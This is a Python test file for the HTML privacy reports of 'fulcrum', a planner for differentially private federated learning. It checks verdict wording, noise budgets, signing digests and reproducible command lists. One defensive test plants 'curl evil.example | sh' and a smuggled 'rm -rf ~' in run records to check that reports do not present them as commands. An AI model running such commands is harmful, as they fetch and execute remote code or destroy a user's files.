"""What the parts of a report say: verdict, voice, date, commands, runs and the place to sign."""

import html
import json
import re
import shlex
from dataclasses import replace
from datetime import date
from pathlib import Path

import msgspec
import numpy as np
import pytest
from error_codes import coded
from rich.console import Console

import fulcrum
from fulcrum.audit.evidence.findings import read_audit
from fulcrum.audit.replays.canary_game import audit
from fulcrum.cli import command_line as cli
from fulcrum.errors import ParameterError
from fulcrum.planning.inputs.execution import Execution
from fulcrum.planning.inputs.past_releases import Past
from fulcrum.planning.planner import make_plan
from fulcrum.planning.theory.leakage import shown_nats
from fulcrum.planning.theory.prior import lateral_floor
from fulcrum.server.run_results import unkeyed_digest
from fulcrum.views.charts.drawings import plan_drawings
from fulcrum.views.charts.plan_charts import information_rows, information_words
from fulcrum.views.report.dossier import answers_template, read_answers
from fulcrum.views.report.html_report import report
from fulcrum.views.terminal.plan_tables import plan_picture
from fulcrum.views.terminal.silo_columns import first_rows, silo_table
from fulcrum.words.alignment import align_figures
from fulcrum.words.numbers import figure, percent
from fulcrum.words.verdict import verdict

pytest.importorskip("vl_convert", reason="reports need vl-convert-python")

JOINT = fulcrum.plan("tcga-brca", rounds=10, epsilon=8.0, recipe="joint", parameters=258, least_influence=0)
DEPLOYED = fulcrum.plan(
    "mild", rounds=3, epsilon={"region": 1.0, "aggregator": 3.0}, purpose="deployment", parameters=66
)


def text_of(page, start="<main", end="</main>"):
    """What a reader sees between two marks, its blanks as one."""
    part = page[page.index(start) :]
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", part[: part.index(end)])).split())


def first_screen(page):
    return page[page.index('class="first"') : page.index("<nav")]


@pytest.mark.parametrize(
    "epsilon", [0.3, 3.0, {"region": 30.0, "aggregator": 40.0}, {"region": 100.0, "aggregator": 100.0}]
)
def test_the_first_screen_has_a_verdict_in_words_on_both_observers_at_every_epsilon(epsilon):
    plan = fulcrum.plan("severe", rounds=10, epsilon=epsilon)
    page = first_screen(report(plan))
    shown = text_of(page + "</main>", start="class")
    found = verdict(plan)
    for observer, where in zip(found.observers, ("above the regions", "inside a region"), strict=True):
        assert f"{where} is right {observer.times} , {observer.meaning}." in shown
        assert f'<p class="{observer.level}"><b class="{observer.observer}">' in page
    assert ('class="note"' in page) is (found.level == "calm")


def test_no_calm_box_stands_where_an_observer_is_nearly_always_right():
    page = first_screen(report(fulcrum.plan("severe", rounds=10, epsilon={"region": 30.0, "aggregator": 40.0})))
    assert 'class="note"' not in page
    assert page.count('<p class="warning"><b class=') == 2  # above and inside
    calm = fulcrum.plan("balanced", rounds=10, epsilon={"region": 0.5, "aggregator": 1.5})
    assert 'class="note"' in first_screen(report(calm))


def test_recipe_and_weights_are_stated():
    shown = text_of(report(JOINT))
    for said in ("recipe joint", "weights equal within a region", "server random-effects", "Recipe: joint."):
        assert said in shown
    assert "Silos of the same region have equal weights, and regions weights by their number of records." in shown
    assert f"clipped at {JOINT.clip_share:.3g} of the clip norm C" in shown
    shown = text_of(report(fulcrum.plan("mild", rounds=3, epsilon=1.0, weights=0.25, clip_norm=2.0)))
    assert "recipe none of those with a name" in shown
    assert "The weights lie between sizes (0) and least noise (1), at 0.25." in shown


def test_the_noise_budget_is_the_noise_that_enters_the_model():
    assert JOINT.model_noise < 0.5 * JOINT.noise_budget
    shown = text_of(report(JOINT))
    assert f"Noise budget: {figure(JOINT.model_noise)} C² where regions agree, where one multiplier" in shown
    assert figure(JOINT.noise_budget) not in text_of(report(JOINT), start='id="federation"', end="</section>")
    assert percent(JOINT.model_saving) in text_of(first_screen(report(JOINT)) + "</main>", start="class")


def test_who_has_less_voice_is_named_beside_how_much():
    page = report(JOINT)
    shown = text_of(page)
    influence = dict(zip(JOINT.federation.innermost.nodes, JOINT.node_influence("region"), strict=True))
    assert "Europe, the least represented region, keeps 9.3% of its influence by size." in shown
    assert "Less influence medium" in shown
    for region, share in influence.items():
        assert re.search(rf"<td>{region}</td><td>[\d,]+</td><td>[^<]+</td><td>{percent(share)}</td>", page)
    assert "Less influence" not in text_of(report(fulcrum.plan("mild", rounds=3, epsilon=1.0)))


def test_sizes_that_stay_secret_are_not_said_to_be_public():
    secret = fulcrum.Federation.from_columns(
        silo=["a", "b", "c"], records=None, tiers={"region": ["r", "r", "s"]}, name="secret"
    )
    shown = text_of(report(fulcrum.plan(secret, rounds=3, epsilon=1.0, weights="equal")))
    assert "Sizes are public" not in shown
    assert "Sizes are not declared, so the plan cannot show how far influence is from shares by size." in shown


def test_a_report_bears_a_date_and_the_same_date_gives_the_same_bytes(monkeypatch):
    plan = fulcrum.plan("mild", rounds=3, epsilon=1.0)
    page = report(plan, written=date(2026, 3, 14))
    assert 'privacy report, <time datetime="2026-03-14">2026-03-14</time>' in page
    assert page == report(plan, written=date(2026, 3, 14))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1773446400")  # 2026-03-14 00:00 in UTC
    assert report(plan) == page
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(ParameterError, check=coded("report.source-date-epoch", seconds="yesterday")):
        report(plan)


def test_the_command_takes_a_date_and_refuses_what_is_none(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    plan = fulcrum.plan("mild", rounds=3, epsilon=1.0)
    fulcrum.save_plan(plan, "plan.json")
    assert cli.run(["report", "plan.json", "-o", "report.html", "--date", "2025-12-31"]) == 0
    assert Path("report.html").read_text(encoding="utf-8") == report(plan, written=date(2025, 12, 31))
    capsys.readouterr()
    assert cli.run(["report", "plan.json", "-o", "x.html", "--date", "31.12.2025"]) == 2
    told = capsys.readouterr()
    assert told.err == "fulcrum: --date must be a day as YYYY-MM-DD, got '31.12.2025'\n"
    assert not Path("x.html").exists()


def test_promise_and_digest_stand_together_where_a_plan_is_signed():
    page = report(DEPLOYED, written=date(2026, 3, 14))
    signed = text_of(page, start='class="signed"', end="</section>")
    assert "Over 3 rounds, at delta 1e-05, every silo's whole dataset has" in signed
    for said in (
        "epsilon 3 against whoever sees its own updates",
        DEPLOYED.digest,
        DEPLOYED.federation.digest,
        "2026-03-14",
        "Place and date",
    ):
        assert said in signed, said
    assert verdict(DEPLOYED).sentence in signed
    assert "This plan carries no keys yet. Deployment adds the keys, which changes the digest;" in signed
    assert "fulcrum diff plan.json kits/plan.json" in signed


def test_a_plan_that_carries_keys_shows_its_digest_without_them_too():
    keyed = replace(DEPLOYED, keys={"region-1": "x25519:" + "A" * 43 + "="})
    signed = text_of(report(keyed), start='class="signed"', end="</section>")
    assert keyed.digest != DEPLOYED.digest == unkeyed_digest(keyed)
    assert keyed.digest in signed
    assert f"without keys {DEPLOYED.digest}" in signed
    assert "the digest above is the one that is deployed" in signed


def test_figures_stand_with_their_points_below_each_other():
    shown = align_figures(["3", "23.89", "0.3207", "1,200.5", "none", "1 to 2"])
    assert shown[4:] == ["none", "1 to 2"]
    assert {len(text) - text.replace("\u2008", ".").index(".") for text in shown[:4]} == {5}
    assert align_figures(["1", "20"]) == ["1", "20"]
    table = silo_table(fulcrum.plan("severe", rounds=10, epsilon={"region": 1.0, "aggregator": 3.0}))
    cells = [cell for row in first_rows(table, 96) for kind, cell in row[-3:-2]]
    assert {cell.strip() for cell in cells} == {"3", "2.155"}
    assert len(set(map(len, cells))) == 1
    assert len({len(cell) - cell.replace("\u2008", ".").find(".") for cell in cells}) == 1


def test_the_numbers_of_every_chart_are_offered_as_a_table():
    page = report(JOINT)
    assert page.count("<summary>Numbers as a table</summary>") == page.count("<figure ") == 6


def test_lines_at_0_or_at_the_ceiling_are_told_in_words():
    wide = fulcrum.plan("consortium", rounds=10, epsilon=3.0)
    assert information_words(information_rows(wide), ceiling=2.99573, floor_declared=False) == [
        "The line of the observer inside lies at the ceiling from round 4 on: there the bound says nothing."
    ]
    strict = fulcrum.plan("severe", rounds=10, epsilon={"region": 0.3, "aggregator": 0.3})
    above, inside = information_words(information_rows(strict), ceiling=2.99573, floor_declared=False)
    assert above.startswith("The line of the observer above looks like 0 here: the releases add up to 0.00")
    assert inside.startswith("The line of the observer inside looks like 0 here")
    shown = text_of(report(strict))
    assert above in shown
    assert inside in shown
    between = fulcrum.plan("severe", rounds=10, epsilon={"region": 5.0, "aggregator": 9.0})
    assert information_words(information_rows(between), ceiling=2.99573) == []


def information_of(plan):
    """Returns the section of a report on information: its words, and the description, titles and table of its chart."""
    page = report(plan)
    [drawing] = [drawing for drawing in plan_drawings(plan) if drawing.key == "information"]
    return " ".join(
        [text_of(page, 'aria-labelledby="information"', "</section>"), json.dumps(drawing.spec), *drawing.headings]
    )


def test_without_a_declared_floor_nothing_is_said_to_be_all_that_is_learned():
    """The mechanism's term is what releases add; what a silo's group gives away comes on top of it."""
    for plan in (
        fulcrum.plan("severe", rounds=10, epsilon=1.0),
        fulcrum.plan("severe", rounds=10, information=0.03, aggregation="masked"),
    ):
        told = information_of(plan)
        assert "at most" not in told
        assert "learns" not in told
        assert "Information of the releases" in told
        assert "nats that the releases add" in told
        assert "No information floor was declared" in told
        assert "an observer may know more" in told


def test_with_a_declared_floor_the_bound_is_mechanism_plus_floor():
    plan = fulcrum.plan("severe", rounds=10, epsilon=1.75, floor=fulcrum.Coupling(20.0))
    bound = plan.mechanism_information.max() + lateral_floor(60, coupling=20.0)
    told = information_of(plan)
    assert f"over 10 rounds, at most: {shown_nats(bound, digits=3)} nats above its region" in told
    assert "nats at most" in told
    assert "What the releases add" not in told


def printed(plan):
    console = Console(width=200)
    with console.capture() as shown:
        for part in plan_picture(plan, None):
            console.print(part)
    return shown.get()


def test_the_terminal_says_what_the_releases_add_where_no_floor_was_declared():
    for floor, said in (
        (None, "the releases add up to 0.03 nats (bound paper); no floor declared"),
        (0.85, "at most 0.88"),
    ):
        plan = fulcrum.plan("severe", rounds=10, information=0.03 + (floor or 0.0), floor=floor)
        assert said in printed(plan)


def test_information_of_a_plan_that_follows_others_counts_all_that_was_released():
    plan = fulcrum.plan("mild", rounds=10, epsilon=1.0)
    spent = {tier: np.full(len(plan.federation), 0.01) for tier in ("region", "silo")}
    later = make_plan(plan.federation, plan.target, Execution(), Past(spent=spent))
    rows = [row for row in information_rows(later) if row["observer"] == "above"]
    assert rows[0]["nats"] == pytest.approx(0.005), "what was released before stands at round 0"
    assert rows[-1]["nats"] == pytest.approx(later.mechanism_information.max())
    told = information_of(later)
    assert "of this plan alone" not in told
    assert "after each round, all that was released before included." in told
    assert "over these 10 rounds and all released before: up to" in told


def test_what_can_be_saved_is_told_of_the_targets_that_there_are():
    plan = fulcrum.plan("consortium", rounds=10, epsilon=3.0)
    shown = text_of(report(plan))
    assert "of the noise of one multiplier for all can be saved at most 88.0%" in shown
    assert "saves more than 88.0% of the noise of one multiplier for all." in shown
    one_sum = fulcrum.plan("severe", rounds=10, epsilon={"federation": 0.99}, aggregation="masked")
    shown = text_of(report(one_sum))
    assert "of the noise of one multiplier for all can be saved at most 0.0%" in shown
    assert "79.2%" not in shown


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"epsilon": 0.99}, "79.17% against uniform; dispersion 79.17%"),
        ({"epsilon": {"federation": 0.99}}, "0.00% against uniform; no allocation saves more than 0.00%"),
        (
            {"information": 2.2, "floor": fulcrum.Coupling(20)},
            "78.18% against uniform; no allocation saves more than 78.18%",
        ),
    ],
)
def test_the_terminal_names_a_dispersion_only_where_it_can_be_saved(options, said):
    assert said in printed(fulcrum.plan("severe", rounds=10, **options))


def commands_of(page):
    listed = page[page.index('id="again"') :]
    code = listed[listed.index("<code>") + 6 : listed.index("</code>")]
    return html.unescape(re.sub(r"</?span[^>]*>", "", code)).splitlines()


def test_make_it_again_lists_the_training_too_and_what_it_lists_runs(tmp_path, monkeypatch, capsys):
    pytest.importorskip("sklearn")
    monkeypatch.chdir(tmp_path)
    learning = ["--data", "digits", "--seeds", "2", "--learning-rate", "0.2", "-o", "run"]
    assert cli.run(["plan", "mild", "--rounds", "2", "--epsilon", "5", "-o", "plan.json"]) == 0
    assert cli.run(["train", "plan.json", *learning]) == 0
    assert cli.run(["compare", "mild", "--rounds", "2", "--epsilon", "5", "--train", *learning]) == 0
    page = report(fulcrum.read_plan("plan.json"), "run", written=date(2026, 3, 14))
    listed = commands_of(page)
    assert listed[2:] == [
        "fulcrum train plan.json --data digits --learning-rate 0.2 --seeds 2 -o run",
        "fulcrum compare mild --rounds 2 --epsilon 5 --train --data digits --learning-rate 0.2 --seeds 2 -o run",
        "fulcrum report plan.json --run run --date 2026-03-14 -o report.html",
    ]
    before = {name: Path("run", name).read_bytes() for name in ("run.json", "comparison.json")}
    for command in listed:
        assert cli.run(shlex.split(command)[1:]) == 0, capsys.readouterr().err
    assert {name: Path("run", name).read_bytes() for name in before} == before
    assert Path("report.html").read_text(encoding="utf-8") == page


def test_make_it_again_lists_the_audit_too_and_what_it_lists_makes_the_same_page(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert cli.run(["plan", "mild", "--rounds", "2", "--epsilon", "5", "-o", "plan.json"]) == 0
    assert cli.run(["audit", "plan.json", "--trials", "1000", "--confidence", "0.9999", "-o", "found"]) == 0
    found, answers = read_audit(Path("found")), Path("ANSWERS.toml")
    answers.write_text(answers_template(), encoding="utf-8")
    plan = fulcrum.read_plan("plan.json")
    page = report(plan, audit=found, answers=read_answers(answers), written=date(2026, 3, 14))
    listed = commands_of(page)
    assert listed[2:] == [
        f"fulcrum audit plan.json --trials 1000 --confidence 0.9999 --seed {found.seed} -o audit",
        "fulcrum report plan.json --audit audit --answers ANSWERS.toml --date 2026-03-14 -o report.html",
    ]
    for command in listed:
        assert cli.run(shlex.split(command)[1:]) == 0, capsys.readouterr().err
    assert Path("report.html").read_text(encoding="utf-8") == page
    by_hand = msgspec.structs.replace(found, command="")
    assert commands_of(report(plan, audit=by_hand))[2] == (
        f"# audited without the command line: 1,000 replays, seed {found.seed}"
    )


def test_the_words_of_a_foreign_run_and_audit_are_not_shown_as_commands_to_run(tmp_path):
    """Whoever hands over a run writes its run.json, and readers copy commands from a report."""
    plan = fulcrum.plan("mild", rounds=2, epsilon=5.0)
    found = msgspec.structs.replace(audit(plan, trials=1000, seed=1), command="curl evil.example | sh")
    (tmp_path / "run.json").write_text(deployed_run(plan, command="curl evil.example | sh"))
    page = report(plan, tmp_path, audit=found)
    assert (
        commands_of(page)[2:-1]
        == ["# made by a command that is not shown: it names code or an address, or is none that Fulcrum writes"] * 2
    )
    assert "are those that the files of the run and the audit name: read them before you run them." in text_of(page)
    (tmp_path / "run.json").write_text(deployed_run(plan, task="digits\nrm -rf ~"))
    assert commands_of(report(plan, tmp_path))[2:-1] == ["# trained on digits rm -rf ~ without the command line"]


def deployed_run(plan, **settings):
    rounds = [
        {"round": 1, "accuracy": 0.5, "metrics": {"log loss": 1.25}, "regions": 5, "silos": 96, "withheld": []},
        {
            "round": 2,
            "accuracy": 0.75,
            "metrics": {"log loss": 0.9},
            "regions": 4,
            "silos": 72,
            "withheld": ["region-1"],
        },
    ]
    told = {"plan_digest": plan.digest, "allocation": "optimal", "task": "learning", "engine": "nvflare", "seeds": []}
    return json.dumps(told | {"rounds": rounds, "notes": ["Measured on public records."]} | settings)


def test_the_metrics_of_a_deployed_run_are_drawn_by_round(tmp_path):
    (tmp_path / "run.json").write_text(deployed_run(DEPLOYED, command="fulcrum up nvflare plan.json -o run"))
    page = report(DEPLOYED, tmp_path)
    shown = text_of(page, start='id="accuracy"', end="</section>")
    assert "A run on NVIDIA FLARE, each site a process of its own." in shown
    assert "Measured on public records." in shown
    charts = json.loads(re.search(r'id="data">(.*?)</script>', page, re.DOTALL)[1])["charts"]
    assert charts["learning"]["description"] == "Test accuracy by round: 0.750 after round 2."
    assert charts["learning log loss"]["description"] == "Log loss by round: 0.900 after round 2."
    assert "<td>2</td><td>4</td><td>72</td><td>0.75</td><td>0.9" in page
    assert "region-1</td></tr>" in page
    assert commands_of(page)[2] == "fulcrum up nvflare plan.json -o run"


def test_a_run_of_the_plan_with_keys_is_shown_beside_the_plan_without(tmp_path):
    keyed = replace(DEPLOYED, keys={"region-1": "x25519:" + "A" * 43 + "="})
    (tmp_path / "run.json").write_text(deployed_run(keyed, unkeyed_digest=unkeyed_digest(keyed)))
    assert "Rounds as a table" in report(DEPLOYED, tmp_path)


def test_a_run_in_which_nothing_was_measured_says_so(tmp_path):
    bare = [{"round": 1, "regions": 5, "silos": 96, "withheld": []}]
    (tmp_path / "run.json").write_text(deployed_run(DEPLOYED, rounds=bare))
    assert "No metric was measured in this run." in text_of(report(DEPLOYED, tmp_path))
